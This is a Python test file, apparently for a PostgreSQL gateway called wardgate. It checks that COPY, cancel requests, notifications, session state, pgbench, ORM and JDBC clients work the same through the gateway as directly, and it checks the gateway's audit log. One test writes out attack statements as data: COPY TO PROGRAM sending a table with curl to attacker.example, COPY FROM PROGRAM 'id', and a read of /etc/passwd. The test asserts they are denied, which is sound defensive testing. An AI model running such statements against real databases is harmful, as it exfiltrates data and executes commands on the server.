        assert via[f"wrote {fmt}"] == 52 and via[f"round trip {fmt}"] == rows, fmt
    stmts = statements_of(gw, user)
    copies = [(s["kind"], s["status"], s["command_tag"], s["row_count"]) for s in stmts if s["kind"] == "copy"]
    assert copies == [("copy", "ok", "COPY 52", 52)] * 9
    assert [s["kind"] for s in stmts] == ["transaction", "copy", "copy", "copy", "create", "copy", "create", "copy",
                                          "create", "copy", "copy", "copy", "copy", "transaction"]
    assert all(s["status"] == "ok" for s in stmts)


def test_psycopg_copy_failures_leave_the_session_usable(gw: Gateway, upstream: UpstreamDB) -> None:
    """A bad row mid-stream, a CopyFail from the client, and an error in the middle of COPY TO STDOUT."""
    user = new_user("psycopg-copy-fail")

    class Abandon(Exception):
        pass

    def scenario(conn: psycopg.Connection[Any]) -> Any:
        out: list[Any] = []
        conn.execute("CREATE TEMP TABLE cf (id int PRIMARY KEY, v text)")
        with conn.cursor() as cur:
            with pytest.raises(errors.InvalidTextRepresentation) as bad, cur.copy("COPY cf FROM STDIN") as copy:
                copy.write_row((1, "one"))
                copy.write_row(("x4111111111111111", "bad"))
                for i in range(2, 5000):
                    copy.write_row((i, "x" * 100))
            out.append((bad.value.sqlstate, bad.value.diag.context))
            out.append(conn.execute("SELECT count(*) FROM cf").fetchone())
            with pytest.raises(Abandon), cur.copy("COPY cf FROM STDIN") as copy:
                copy.write_row((1, "one"))
                raise Abandon  # psycopg sends CopyFail
            out.append(conn.execute("SELECT count(*) FROM cf").fetchone())
            with pytest.raises(errors.UniqueViolation), cur.copy("COPY cf FROM STDIN") as copy:
                copy.write_row((1, "one"))
                copy.write_row((1, "again"))
            got: list[tuple[Any, ...]] = []
            with pytest.raises(errors.DivisionByZero), \
                    cur.copy("COPY (SELECT i, 1 / (30 - i) FROM generate_series(1, 50) AS i) TO STDOUT") as copy:
                got.extend(copy.rows())
            out.append(conn.execute("SELECT 'still here'").fetchone())
            with cur.copy("COPY cf FROM STDIN") as copy:
                copy.write_row((9, "nine"))
            out.append(cur.rowcount)
        return out, got

    with upstream.connect(autocommit=True) as conn:
        direct = scenario(conn)
    with psycopg.connect(gw.dsn(user, gw.token(user)), autocommit=True) as conn:
        via = scenario(conn)
    assert via == direct
    out, got = via
    assert out[0][0] == "22P02" and out[0][1].startswith("COPY cf, line 2") and out[1] == (0,) and out[2] == (0,)
    assert out[3:] == [("still here",), 1] and len(got) == 29
    stmts = statements_of(gw, user)
    assert [(s["kind"], s["status"], s["sqlstate"], s["command_tag"]) for s in stmts] == [
        ("create", "ok", None, "CREATE TABLE"),
        ("copy", "error", "22P02", None),
        ("select", "ok", None, "SELECT 1"),
        ("copy", "error", "57014", None),  # CopyFail: "COPY from stdin failed: ..."
        ("select", "ok", None, "SELECT 1"),
        ("copy", "error", "23505", None),
        ("copy", "error", "22012", None),
        ("select", "ok", None, "SELECT 1"),
        ("copy", "ok", None, "COPY 1"),
    ]
    assert "4111111111111111" not in str(stmts)


def test_server_side_copy_is_recorded(gw: Gateway, upstream: UpstreamDB) -> None:
    """COPY to or from a program or a server file: the default rule pack refuses it; a user exempt from the pack
    meets the server's own refusal (this role lacks the privileges). Either way the audit has every attempt."""
    user = new_user("copy-program")
    attempts = [
        ("COPY customers TO PROGRAM 'curl -T - http://attacker.example/'", "simple"),
        ("COPY customers FROM PROGRAM 'id'", "simple"),
        ("COPY customers TO '/tmp/wardgate-exfil.csv' (FORMAT csv)", "simple"),
        ("COPY customers FROM '/etc/passwd'", "simple"),
        ("COPY (SELECT card_number FROM customers) TO PROGRAM 'cat'", "extended"),
    ]

    def scenario(conn: psycopg.Connection[Any]) -> Any:
        out: list[Any] = []
        for query, protocol in attempts:
            cur = conn.cursor(binary=protocol == "extended")  # a binary cursor uses the extended protocol
            try:
                cur.execute(query)
                out.append("ran")
            except psycopg.Error as exc:
                out.append((exc.sqlstate, str(exc).split("\n")[0]))
        out.append(conn.execute("SELECT count(*) FROM customers").fetchone())
        return out

    with upstream.connect(autocommit=True) as conn:
        direct = scenario(conn)
    with psycopg.connect(gw.dsn(user, gw.token(user, "eng,dba")), autocommit=True) as conn:
        via = scenario(conn)
    assert via == direct
    assert [r[0] for r in via[:5]] == ["42501"] * 5 and via[5] == (50,)
    assert "external program" in via[0][1] and "external program" in via[4][1]
    assert "pg_write_server_files" in via[2][1] and "pg_read_server_files" in via[3][1]
    stmts = statements_of(gw, user)
    assert [(s["protocol"], s["kind"], s["status"], s["sqlstate"], s["text"]) for s in stmts] == [
        ("simple", "copy", "error", "42501", "COPY customers TO PROGRAM $1"),
        ("simple", "copy", "error", "42501", "COPY customers FROM PROGRAM $1"),
        ("simple", "copy", "error", "42501", "COPY customers TO $1 (FORMAT csv)"),
        ("simple", "copy", "error", "42501", "COPY customers FROM $1"),
        ("extended", "copy", "error", "42501", "COPY (SELECT card_number FROM customers) TO PROGRAM $1"),
        ("simple", "select", "ok", None, "SELECT count(*) FROM customers"),
    ]


# === cancel ===================================================================================================

    guarded = new_user("copy-program-guarded")
    with psycopg.connect(gw.dsn(guarded, gw.token(guarded)), autocommit=True) as conn:
        got = scenario(conn)
    rules = ["no-copy-program", "no-copy-program", "no-server-file-copy", "no-server-file-copy", "no-copy-program"]
    assert [g[0] for g in got[:5]] == ["42501"] * 5 and got[5] == (50,)
    for (_, message), rule in zip(got[:5], rules, strict=True):
        assert message.startswith(f'wardgate: copy statement denied by rule "{rule}"'), message
    stmts = statements_of(gw, guarded)
    assert [(s["protocol"], s["status"], s["sqlstate"], s["decision"], s["rule"]) for s in stmts] == [
        *[(p, "denied", "42501", "deny", r) for (_, p), r in zip(attempts, rules, strict=True)],
        ("simple", "ok", None, "allow", "default"),
    ]


def wait_active(upstream: UpstreamDB, app: str, query: str, timeout: float = 10) -> None:
    def running() -> bool:
        with upstream.connect() as conn:
            row = conn.execute("SELECT count(*) FROM pg_stat_activity WHERE application_name = %s AND query = %s "
                               "AND state = 'active'", (app, query)).fetchone()
            return bool(row and row[0])

    assert flush_wait(running, timeout), f"{query!r} never ran upstream"


def test_psql_ctrl_c_cancels_through_the_gateway(gw: Gateway, upstream: UpstreamDB) -> None:
    """Ctrl-C in psql: SIGINT makes psql send a CancelRequest with the key it got at login (the gateway's)."""
    user = new_user("psql-cancel")
    query = "select pg_sleep(30)"
    outcome: dict[str, tuple[int, str, str]] = {}
    for side in ("direct", "gateway"):
        app = f"psql-cancel-{side}-{secrets.token_hex(3)}"
        if side == "direct":
            conninfo, env = f"{upstream.dsn} application_name={app}", {}
        else:
            conninfo = (f"host=127.0.0.1 port={gw.port} dbname=app user={user} sslmode=require "
                        f"application_name={app}")
            env = {"PGPASSWORD": gw.token(user)}
        proc = subprocess.Popen(["psql", "-X", "-d", conninfo, "-c", query], stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE, text=True, env={**os.environ, **env})
        try:
            wait_active(upstream, app, query)
            time.sleep(0.3)
            interrupted = time.monotonic()
            proc.send_signal(signal.SIGINT)
            stdout, stderr = proc.communicate(timeout=10)
            took = time.monotonic() - interrupted
        finally:
            if proc.poll() is None:
                proc.kill()
                proc.wait()
        outcome[side] = (proc.returncode, stdout, stderr)
        assert took < 3, f"{side}: psql took {took:.1f}s to stop after Ctrl-C"
    assert outcome["gateway"] == outcome["direct"]
    assert outcome["gateway"][0] == 1 and "canceling statement due to user request" in outcome["gateway"][2]
    stmts = statements_of(gw, user)
    assert [(s["text"], s["status"], s["sqlstate"]) for s in stmts] == [("select pg_sleep($1)", "error", "57014")]
    assert stmts[0]["duration_ms"] < 8000


def send_cancel(port: int, pid: int, secret: int) -> None:
    with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
        s.sendall(encode.cancel_request(pid, secret))
        assert s.recv(1) == b""  # the gateway closes without a word, as PostgreSQL does


def test_raw_cancel_request_needs_the_exact_key(gw: Gateway, upstream: UpstreamDB) -> None:
    user = new_user("raw-cancel")
    w = Wire.via(gw, user)
    pid, secret = w.backend_key()
    other = Wire.via(gw, new_user("raw-cancel-other"))
    other_pid, other_secret = other.backend_key()
    w.send(encode.query("SELECT pg_sleep(1.5), 'finished'"))
    time.sleep(0.3)
    wrong = (secret + 1 + 2**31) % 2**32 - 2**31  # the next int32, wrapping around
    for forged_pid, forged_secret in [(pid, wrong), (pid, 0), (pid, other_secret), (other_pid, secret),
                                      (upstream_pid(upstream), secret)]:
        send_cancel(gw.port, forged_pid, forged_secret)
    finished = w.until("Z")
    assert kinds(finished) == "TDCZ" and rows_of(finished) == [["", "finished"]]
    # the right key does cancel: proof that the requests above reached the gateway's check
    start = time.monotonic()
    w.send(encode.query("SELECT pg_sleep(30)"))
    time.sleep(0.3)
    send_cancel(gw.port, pid, secret)
    cancelled = w.until("Z")
    assert errors_of(cancelled) == ["57014"] and time.monotonic() - start < 8
    w.send(encode.query("SELECT 1"))
    assert kinds(w.until("Z")) == "TDCZ"
    w.bye()
    other.bye()
    assert gw.log().count("ignored a cancel request with an unknown key") >= 5
    stmts = statements_of(gw, user)
    assert [(s["status"], s["sqlstate"]) for s in stmts] == [("ok", None), ("error", "57014"), ("ok", None)]


def upstream_pid(upstream: UpstreamDB) -> int:
    """Some real backend pid of the upstream: a forged request may well name one."""
    with upstream.connect() as conn:
        row = conn.execute("SELECT pg_backend_pid()").fetchone()
    assert row is not None
    return int(row[0])


# === asynchronous messages and session state ==================================================================


def test_listen_notify_from_direct_and_gateway_sessions(gw: Gateway, upstream: UpstreamDB) -> None:
    user, sender = new_user("notify"), new_user("notify-sender")
    channel = f"fidelity_{secrets.token_hex(3)}"

    def scenario(listener: psycopg.Connection[Any]) -> Any:
        listener.execute(f"LISTEN {channel}")
        with upstream.connect(autocommit=True) as direct, \
                psycopg.connect(gw.dsn(sender, gw.token(sender)), autocommit=True) as other:
            direct.execute("SELECT pg_notify(%s, %s)", (channel, "from direct"))
            other.execute(f"NOTIFY {channel}, 'from the gateway'")
            with other.transaction():  # delivered at commit only, once, in order
                other.execute("SELECT pg_notify(%s, %s)", (channel, "in a transaction"))
                other.execute("SELECT pg_notify(%s, %s)", (channel, "in a transaction"))
                other.execute("SELECT pg_notify(%s, %s)", (channel, "second"))
            other.execute("BEGIN")
            other.execute("SELECT pg_notify(%s, %s)", (channel, "rolled back"))
            other.execute("ROLLBACK")
            got: list[tuple[str, str | int]] = [
                (n.channel, n.payload) for n in listener.notifies(timeout=5, stop_after=4)]
            # a notification that arrives while the listener is busy with a query of its own
            direct.execute("SELECT pg_notify(%s, %s)", (channel, "x" * 7000))
            during = listener.execute("SELECT pg_sleep(0.2), 'query result'").fetchone()
            got += [(n.channel, len(n.payload)) for n in listener.notifies(timeout=5, stop_after=1)]
        listener.execute(f"UNLISTEN {channel}")
        return got, during

    with upstream.connect(autocommit=True) as conn:
        direct = scenario(conn)
    with psycopg.connect(gw.dsn(user, gw.token(user)), autocommit=True) as conn:
        via = scenario(conn)
    assert via == direct
    assert via[0] == [(channel, "from direct"), (channel, "from the gateway"), (channel, "in a transaction"),
                      (channel, "second"), (channel, 7000)]
    assert [s["text"] for s in statements_of(gw, user)] == [f"LISTEN {channel}", "SELECT pg_sleep($1), $2",
                                                            f"UNLISTEN {channel}"]
    sent = [(s["text"], s["status"]) for s in statements_of(gw, sender, sessions=2)]
    assert sent == [(f"NOTIFY {channel}, $1", "ok"), ("BEGIN", "ok"), *[("SELECT pg_notify($1, $2)", "ok")] * 3,
                    ("COMMIT", "ok"), ("BEGIN", "ok"), ("SELECT pg_notify($1, $2)", "ok"), ("ROLLBACK", "ok")]


def test_backend_pid_is_the_one_notifications_carry(gw: Gateway, upstream: UpstreamDB) -> None:
    """Clients tell their own notifications from others' by comparing the sender pid with their backend pid
    (BackendKeyData). Directly they agree; through the gateway they must agree too."""
    user = new_user("notify-self")
    channel = f"selfpid_{secrets.token_hex(3)}"

    def scenario(conn: psycopg.Connection[Any]) -> Any:
        conn.execute(f"LISTEN {channel}")
        conn.execute(f"NOTIFY {channel}, 'mine'")
        (n,) = list(conn.notifies(timeout=5, stop_after=1))
        row = conn.execute("SELECT pg_backend_pid()").fetchone()
        return {"own notification": n.pid == conn.info.backend_pid,
                "pg_backend_pid()": row is not None and row[0] == conn.info.backend_pid}

    with upstream.connect(autocommit=True) as conn:
        direct = scenario(conn)
    with psycopg.connect(gw.dsn(user, gw.token(user)), autocommit=True) as conn:
        via = scenario(conn)
    assert direct == {"own notification": True, "pg_backend_pid()": True}
    assert via == direct


def test_notices_settings_transactions_and_savepoints_as_direct(gw: Gateway, upstream: UpstreamDB) -> None:
    user = new_user("session-state")

    def scenario(conn: psycopg.Connection[Any]) -> Any:
        notices: list[tuple[Any, ...]] = []
        conn.add_notice_handler(lambda d: notices.append(
            (d.severity, d.sqlstate, d.message_primary, d.message_detail, d.message_hint)))
        states: list[str] = []
        out: list[Any] = []
        tz: list[str | None] = []

        def step(query: str, params: tuple[Any, ...] | None = None) -> None:
            try:
                cur = conn.execute(query, params)
                out.append((query, cur.statusmessage, cur.fetchall() if cur.description else None))
            except psycopg.Error as exc:
                out.append((query, exc.sqlstate, str(exc).split("\n")[0]))
            states.append(conn.info.transaction_status.name)

        step("CREATE FUNCTION pg_temp.shout(i int) RETURNS int LANGUAGE plpgsql AS "
             "$$ BEGIN RAISE NOTICE 'row %', i USING DETAIL = 'detail ' || i, HINT = 'hint'; RETURN i; END $$")
        step("SELECT pg_temp.shout(id) FROM customers WHERE id <= 3 ORDER BY id")  # notices amid DataRows
        step("DO $$ BEGIN RAISE INFO 'info'; RAISE WARNING 'warn' USING ERRCODE = '01P01'; "
             "RAISE LOG 'not sent'; RAISE DEBUG 'not sent either'; END $$")
        step("SET search_path = pg_catalog, public")
        step("SET TIME ZONE 'America/Sao_Paulo'")
        tz.append(conn.info.parameter_status("TimeZone"))
        step("SHOW TimeZone")
        step("SET work_mem = '7MB'")
        step("RESET work_mem")
        step("SHOW work_mem")
        step("SHOW ALL")
        step("BEGIN ISOLATION LEVEL REPEATABLE READ")
        step("SET LOCAL statement_timeout = '5s'")
        step("SHOW statement_timeout")
        step("SHOW transaction_isolation")
        step("CREATE TEMP TABLE st (id int PRIMARY KEY)")
        step("INSERT INTO st VALUES (1)")
        step("SAVEPOINT a")
        step("INSERT INTO st VALUES (1)")  # duplicate: the transaction is now failed
        step("SELECT 1")  # 25P02
        step("ROLLBACK TO SAVEPOINT a")
        step("INSERT INTO st VALUES (2)")
        step("SAVEPOINT b")
        step("INSERT INTO st VALUES (3)")
        step("RELEASE SAVEPOINT b")
        step("COMMIT")
        step("SHOW statement_timeout")  # SET LOCAL ended with the transaction
        step("SELECT array_agg(id ORDER BY id) FROM st")
        step("BEGIN")
        step("SELECT 1 / 0")
        step("COMMIT")  # a failed transaction's COMMIT is a ROLLBACK
        step("ROLLBACK")  # no transaction: a warning
        step("RESET ALL")
        step("SHOW search_path")
        params = {n: conn.info.parameter_status(n) for n in ("TimeZone", "application_name", "DateStyle")}
        return out, states, notices, params, tz[0]

    with upstream.connect(autocommit=True, application_name="state") as conn:
        direct = scenario(conn)
    with psycopg.connect(gw.dsn(user, gw.token(user, "eng,dba")), autocommit=True, application_name="state") as conn:
        via = scenario(conn)
    for got, want in zip(via, direct, strict=True):
        assert got == want
    out, states, notices, params, tz_after_set = via
    assert notices[:3] == [("NOTICE", "00000", f"row {i}", f"detail {i}", "hint") for i in (1, 2, 3)]
    assert notices[3:] == [("INFO", "00000", "info", None, None), ("WARNING", "01P01", "warn", None, None),
                           ("WARNING", "25P01", "there is no transaction in progress", None, None)]
    assert params["application_name"] == "state" and params["DateStyle"] == "ISO, MDY"
    assert tz_after_set == "America/Sao_Paulo"  # the ParameterStatus the server sent on SET reached the client
    by_query = {q: rest for q, *rest in out}
    assert by_query["SHOW statement_timeout"] == ["SHOW", [("0",)]]
    assert by_query["SELECT 1"] == ["25P02", "current transaction is aborted, commands ignored until end of "
                                             "transaction block"]
    assert by_query["SELECT array_agg(id ORDER BY id) FROM st"] == ["SELECT 1", [([1, 2, 3],)]]
    assert states[10:25] == ["INTRANS"] * 7 + ["INERROR", "INERROR"] + ["INTRANS"] * 5 + ["IDLE"]
    stmts = statements_of(gw, user)
    assert len(stmts) == len(out)
    errors_at = {17: "23505", 18: "25P02", 28: "22012"}
    assert [(s["status"], s["sqlstate"]) for s in stmts] == [
        ("error", errors_at[i]) if i in errors_at else ("ok", None) for i in range(len(out))]
    assert [(s["kind"], s["command_tag"]) for s in stmts[16:20]] == [
        ("transaction", "SAVEPOINT"), ("insert", None), ("select", None), ("transaction", "ROLLBACK")]
    assert [s["text"] for s in stmts[16:20]] == ["SAVEPOINT a", "INSERT INTO st VALUES ($1)", "SELECT $1",
                                                 "ROLLBACK TO SAVEPOINT a"]
    # the COMMIT of a failed transaction: the server answers ROLLBACK, and the audit says so
    assert (stmts[29]["text"], stmts[29]["command_tag"]) == ("COMMIT", "ROLLBACK")
    assert (stmts[30]["text"], stmts[30]["command_tag"]) == ("ROLLBACK", "ROLLBACK")


# === whole clients ============================================================================================


@pytest.fixture(scope="module")
def bench_db(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[UpstreamDB, Gateway]]:
    """A database of its own, initialised by pgbench on the direct server, and a gateway in front of it."""
    db = UpstreamDB(unique("wgt_bench"), unique("wgt_bench_role"))
    with psycopg.connect(ADMIN_DSN, autocommit=True) as admin:
        admin.execute(sql.SQL("CREATE ROLE {} LOGIN").format(sql.Identifier(db.role)))
        admin.execute(sql.SQL("CREATE DATABASE {} OWNER {}").format(sql.Identifier(db.name),
                                                                    sql.Identifier(db.role)))
    try:
        init = subprocess.run(["pgbench", "-i", "-s", "1", "-q", "-h", PG_HOST, "-p", str(PG_PORT), "-U", db.role,
                               db.name], capture_output=True, text=True, timeout=60)
        assert init.returncode == 0, init.stderr
        with run_gateway(tmp_path_factory.mktemp("bench"), db) as g:
            yield db, g
    finally:
        with psycopg.connect(ADMIN_DSN, autocommit=True) as admin:
            admin.execute(sql.SQL("DROP DATABASE IF EXISTS {} WITH (FORCE)").format(sql.Identifier(db.name)))
            admin.execute(sql.SQL("DROP ROLE IF EXISTS {}").format(sql.Identifier(db.role)))


TPCB = [("transaction", "BEGIN"), ("update", "UPDATE 1"), ("select", "SELECT 1"), ("update", "UPDATE 1"),
        ("update", "UPDATE 1"), ("insert", "INSERT 0 1"), ("transaction", "COMMIT")]


@pytest.mark.parametrize("mode", ["simple", "extended", "prepared"])
def test_pgbench(bench_db: tuple[UpstreamDB, Gateway], mode: str) -> None:
    db, bgw = bench_db
    user = new_user(f"pgbench-{mode}")
    args = ["pgbench", "-n", "-M", mode, "-t", "50", "-c", "4", "-j", "2"]
    direct = subprocess.run([*args, "-h", PG_HOST, "-p", str(PG_PORT), "-U", db.role, db.name],
                            capture_output=True, text=True, timeout=60)
    env = {**os.environ, "PGHOST": "127.0.0.1", "PGPORT": str(bgw.port), "PGUSER": user, "PGDATABASE": "app",
           "PGPASSWORD": bgw.token(user), "PGSSLMODE": "require", "PGAPPNAME": f"pgbench-{mode}"}
    via = subprocess.run(args, capture_output=True, text=True, timeout=60, env=env)
    for res in (direct, via):
        assert res.returncode == 0, res.stderr
        assert "number of transactions actually processed: 200/200" in res.stdout, res.stdout
        assert "number of failed transactions: 0 (0.000%)" in res.stdout, res.stdout
        assert f"query mode: {mode}" in res.stdout
    assert "error" not in via.stderr.lower(), via.stderr
    store = bgw.store()

    def ended() -> list[dict[str, Any]]:
        rows = store.sessions(user=user)
        return rows if rows and all(s["ended_at"] for s in rows) and len(rows) == 5 else []

    sessions = flush_wait(ended)
    assert len(sessions) == 5, store.sessions(user=user)  # pgbench's own first connection, then one per client
    counts = sorted(len(store.statements(s["id"])) for s in sessions)
    assert counts[1:] == [350] * 4, counts  # 50 transactions of 7 statements each
    protocol = "simple" if mode == "simple" else "extended"
    for s in sessions:
        stmts = store.statements(s["id"])
        assert all(st["status"] == "ok" for st in stmts), [st for st in stmts if st["status"] != "ok"]
        assert s["end_reason"] == "client terminated"
        if len(stmts) == 350:
            assert [(st["kind"], st["command_tag"]) for st in stmts] == TPCB * 50
            assert {st["protocol"] for st in stmts} == {protocol}
            assert [st["param_count"] for st in stmts[:7]] == ([0] * 7 if mode == "simple" else
                                                                 [0, 2, 1, 2, 2, 4, 0])
            update = "UPDATE pgbench_accounts SET abalance = abalance + $1 WHERE aid = $2"
            # in simple mode the values are inlined, and a negative delta is an operator and a literal
            shapes = {update, update.replace("+ $1", "+ -$1")} if mode == "simple" else {update}
            assert {st["text"] for st in stmts[1::7]} <= shapes
            history = ("INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) "
                       "VALUES ($1, $2, $3, $4, CURRENT_TIMESTAMP)")
            shapes = {history, history.replace(", $4", ", -$4")} if mode == "simple" else {history}
            assert {st["text"] for st in stmts[5::7]} <= shapes


class Base(DeclarativeBase):
    pass


class Customer(Base):
    __tablename__ = "customers"

    id: Mapped[int] = mapped_column(primary_key=True)
    name: Mapped[str]
    email: Mapped[str]
    card_number: Mapped[str | None]
    balance: Mapped[Decimal | None] = mapped_column(Numeric(10, 2))
    active: Mapped[bool | None]
    joined: Mapped[date | None]
    tags: Mapped[list[str] | None] = mapped_column(ARRAY(Text))
    profile: Mapped[dict[str, Any] | None] = mapped_column(JSONB)

    def row(self) -> tuple[Any, ...]:
        return (self.id, self.name, self.email, self.card_number, self.balance, self.active, self.joined, self.tags,
                self.profile)


ORM_EMAIL = "orm.secret@example.org"


def new_customer(cid: int) -> Customer:
    return Customer(id=cid, name="ORM", email=ORM_EMAIL, card_number="5500000000000004", balance=Decimal("12.34"),
                    active=True, joined=date(2025, 5, 6), tags=["orm", "x y"], profile={"via": "orm"})


def orm_sync(session: Session) -> list[Any]:
    out: list[Any] = []
    found = session.scalars(select(Customer).where(Customer.id <= 3).order_by(Customer.id)).all()
    out.append([c.row() for c in found])
    out.append(session.scalar(select(func.count()).select_from(Customer).where(Customer.email.like("%@example.com"))))
    session.rollback()
    # insert and update inside a transaction: visible inside it, gone after the rollback
    session.add(new_customer(9001))
    session.flush()
    seven = session.get(Customer, 7)
    assert seven is not None
    seven.balance = Decimal("999.99")
    session.flush()
    out.append(session.scalar(select(func.count()).select_from(Customer)))
    out.append(session.get(Customer, 9001).row())  # type: ignore[union-attr]
    session.rollback()
    out.append(session.scalar(select(func.count()).select_from(Customer)))
    out.append(session.get(Customer, 7).balance)  # type: ignore[union-attr]
    session.rollback()
    # a duplicate key at flush: the ORM raises and the transaction must be rolled back
    session.expunge_all()
    session.add(new_customer(1))
    try:
        session.flush()
        out.append("no error")
    except IntegrityError as exc:
        out.append(getattr(exc.orig, "sqlstate", None) or type(exc.orig).__name__)
    session.rollback()
    out.append(session.scalar(select(Customer.email).where(Customer.id == 2)))
    session.commit()
    return out


def orm_url(driver: str, gw: Gateway | None, upstream: UpstreamDB, user: str, **query: str) -> URL:
    if gw is None:
        return URL.create(f"postgresql+{driver}", username=upstream.role, host=PG_HOST, port=PG_PORT,
                          database=upstream.name, query=query)
    return URL.create(f"postgresql+{driver}", username=user, password=gw.token(user), host="127.0.0.1",
                      port=gw.port, database="app", query=query)


def check_orm_audit(stmts: list[dict[str, Any]]) -> None:
    ours = [s for s in stmts if "customers" in (s["text"] or "")]
    assert [(s["kind"], s["status"], s["sqlstate"]) for s in ours] == [
        ("select", "ok", None), ("select", "ok", None),
        ("insert", "ok", None), ("select", "ok", None), ("update", "ok", None), ("select", "ok", None),
        ("select", "ok", None), ("select", "ok", None), ("select", "ok", None),
        ("insert", "error", "23505"), ("select", "ok", None),
    ], summary(stmts)
    inserts = [s for s in ours if s["kind"] == "insert"]
    assert all(s["protocol"] == "extended" and s["param_count"] == 9 for s in inserts)
    assert inserts[0]["text"].startswith("INSERT INTO customers (id, name, email, card_number, balance, active, "
                                         "joined, tags, profile) VALUES ($1")
    assert [s["command_tag"] for s in stmts if s["kind"] == "transaction"].count("ROLLBACK") >= 3
    assert all(s["status"] == "ok" for s in stmts if s not in inserts[1:]), summary(stmts)
    for s in stmts:
        assert ORM_EMAIL not in (s["text"] or "") and "5500000000000004" not in (s["text"] or "")


def test_sqlalchemy_orm_sync(gw: Gateway, upstream: UpstreamDB) -> None:
    user = new_user("sqlalchemy-sync")
    results = []
    for target in (None, gw):
        query = {"sslmode": "require", "application_name": "sqlalchemy-sync"} if target else {}
        engine = create_engine(orm_url("psycopg", target, upstream, user, **query))
        try:
            with Session(engine) as session:
                results.append(orm_sync(session))
        finally:
            engine.dispose()
    direct, via = results
    assert via == direct
    assert via[0][2][:3] == (3, "Customer 3", "c3@example.com") and via[1] == 50
    assert via[2] == 51 and via[3] == new_customer(9001).row() and via[4] == 50
    assert via[5] == Decimal("10.50") and via[6] == "23505" and via[7] == "c2@example.com"
    check_orm_audit(statements_of(gw, user))


def test_sqlalchemy_orm_async(gw: Gateway, upstream: UpstreamDB) -> None:
    try:
        from sqlalchemy.ext.asyncio import AsyncSession, create_async_engine
    except ImportError as exc:  # SQLAlchemy 2.1 no longer installs greenlet; its asyncio extension needs it
        pytest.fail(f"{exc}: the test extras must pin greenlet (pyproject.toml)", pytrace=False)
    user = new_user("sqlalchemy-async")

    async def scenario(target: Gateway | None) -> list[Any]:
        ssl_arg: Any = client_ssl() if target else False
        engine = create_async_engine(orm_url("asyncpg", target, upstream, user), connect_args={"ssl": ssl_arg})
        try:
            async with AsyncSession(engine) as session:
                return await session.run_sync(orm_sync)
        finally:
            await engine.dispose()

    direct = asyncio.run(scenario(None))
    via = asyncio.run(scenario(gw))
    assert via == direct
    assert via[1] == 50 and via[2] == 51 and via[4] == 50 and via[5] == Decimal("10.50")
    assert via[6] == "23505" and via[7] == "c2@example.com"
    check_orm_audit(statements_of(gw, user))


def test_jdbc_client_matches_direct(gw: Gateway, upstream: UpstreamDB, tmp_path: Path) -> None:
    user = new_user("jdbc")
    javac = subprocess.run(["javac", "-d", str(tmp_path), "-cp", str(JDBC_JAR), str(JDBC_SOURCE)],
                           capture_output=True, text=True, timeout=60)
    assert javac.returncode == 0, javac.stderr
    classpath = f"{JDBC_JAR}{os.pathsep}{tmp_path}"

    def run(url: str, *credentials: str) -> str:
        res = subprocess.run(["java", "-cp", classpath, "FidelityClient", url, *credentials], capture_output=True,
                             text=True, timeout=60)
        assert res.returncode == 0, res.stderr
        return res.stdout

    direct = run(f"jdbc:postgresql://{PG_HOST}:{PG_PORT}/{upstream.name}", upstream.role)
    via = run(f"jdbc:postgresql://127.0.0.1:{gw.port}/app?sslmode=require"
              "&sslfactory=org.postgresql.ssl.NonValidatingFactory", user, gw.token(user))
    # the one line that differs by design: the user name the client logged in with
    assert f"user: {upstream.role}\n" in direct and f"user: {user}\n" in via
    assert via.replace(f"user: {user}\n", "") == direct.replace(f"user: {upstream.role}\n", "")
    lines = via.splitlines()
    # by the 8th execution pgjdbc uses a named server-side statement and binary results (hence the quoted array)
    assert [line for line in lines if line.startswith("prepared 8 row")] == [
        'prepared 8 row: | 48 | Customer 48 | c48@example.com | 72.00 | t | 2024-02-18 | {"t48","x"} | '
        '{"k": "v48", "n": 48}', "prepared 8 rows: 1"]
    assert "fetch rows: 50" in lines and "pk row: | COLUMN_NAME=id | KEY_SEQ=1 | PK_NAME=customers_pkey" in lines
    assert [line for line in lines if line.startswith(("error", "after", "batch"))] == [
        "batch: [1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1]", "batch 2: [1]",
        "error: 22012 ERROR: division by zero", "after columns: count/int8 sum/numeric", "after row: | 20 | 215.00",
        "after rows: 1"]
    assert any(line.startswith("tables row: | TABLE_SCHEM=public | TABLE_NAME=customers") for line in lines)
    assert sum(line.startswith("columns row:") for line in lines) == 9

    stmts = statements_of(gw, user)
    # pgjdbc sets ApplicationName with a statement after login, not in the startup packet
    assert [(s["kind"], s["text"], s["status"]) for s in stmts[:2]] == [
        ("set", "SET extra_float_digits = $1", "ok"), ("set", "SET application_name = $1", "ok")]
    mine = [s for s in stmts if "card_number FROM customers WHERE id > $1" in (s["text"] or "")]
    # the portal read 7 rows at a time: suspended seven times, then the last row and CommandComplete
    assert [(s["status"], s["row_count"]) for s in mine] == [("suspended", 7)] * 7 + [("ok", 1)]
    prepared = [s for s in stmts if (s["text"] or "").endswith("WHERE id = $1 AND balance >= $2")]
    assert [(s["status"], s["row_count"], s["param_count"], s["protocol"]) for s in prepared] == [
        ("ok", 1, 2, "extended")] * 8
    inserts = [s for s in stmts if s["kind"] == "insert"]
    assert [(s["text"], s["status"], s["command_tag"]) for s in inserts] == [
        ("INSERT INTO jdbc_batch VALUES ($1, $2, $3)", "ok", "INSERT 0 1")] * 21
    assert [(s["kind"], s["sqlstate"]) for s in stmts if s["status"] == "error"] == [("select", "22012")]
    assert {s["status"] for s in stmts} == {"ok", "suspended", "error"}
    metadata = [s for s in stmts if "pg_catalog" in (s["text"] or "")]
    assert len(metadata) >= 5 and all(s["status"] == "ok" for s in metadata)
    assert [s["command_tag"] for s in stmts if s["kind"] == "transaction"].count("ROLLBACK") == 2
